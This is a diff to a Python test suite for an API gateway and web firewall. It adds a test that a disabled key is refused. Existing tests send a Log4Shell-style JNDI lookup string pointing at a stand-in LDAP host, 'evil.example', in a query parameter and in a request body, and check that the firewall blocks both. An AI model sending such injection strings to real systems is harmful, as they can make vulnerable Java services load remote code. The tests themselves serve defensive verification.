@@ -83,6 +83,20 @@ def test_when_the_quota_of_its_plan_is_used_up_a_key_is_refused(partner: Partner
     assert last.error == {"code": "quota_exceeded", "message": "the quota of the day is used up"}
 
 
+def test_a_disabled_key_is_refused(partner: PartnerApi, deployment: Deployment) -> None:
+    gateway = deployment.client("apigateway")
+    with partner.another_key() as key:
+        served = eventually(lambda: partner.call("GET", "/", key=key), lambda a: a.status != 403)
+        made = gateway.get_api_keys(nameQuery="suite-", includeValues=True)["items"]
+        [identity] = [each["id"] for each in made if each["value"] == key]
+        off = {"op": "replace", "path": "/enabled", "value": "false"}
+        gateway.update_api_key(apiKey=identity, patchOperations=[off])
+
+        refused = eventually(lambda: partner.call("GET", "/", key=key), lambda a: a.status != 200)
+
+    assert (served.status, refused.status) == (200, 403)
+
+
 def test_an_address_above_the_firewalls_rate_is_blocked_and_then_served_again(
     partner: PartnerApi,
 ) -> None:
@@ -96,6 +110,7 @@ def test_an_address_above_the_firewalls_rate_is_blocked_and_then_served_again(
 
 @pytest.mark.embedded
 def test_what_the_firewall_blocked_is_shown(partner: PartnerApi, deployment: Deployment) -> None:
+    """Here our approximation of AWS's group blocks; that AWS's own does, only AWS shows."""
     before = time.time()
     partner.call("GET", "/items?cursor=%24%7Bjndi:ldap://evil.example/a%7D")
 
@@ -128,6 +143,7 @@ def test_items_are_data_whatever_they_look_like(partner: PartnerApi, text: str) 
 
 
 def test_known_bad_input_is_blocked_in_a_body_too(partner: PartnerApi) -> None:
+    """Here our approximation of AWS's group blocks; that AWS's own does, only AWS shows."""
     answer = partner.call("POST", "/items", item={"text": "${jndi:ldap://evil.example/a}"})
 
     assert (answer.status, answer.error["code"]) == (403, "request_blocked")
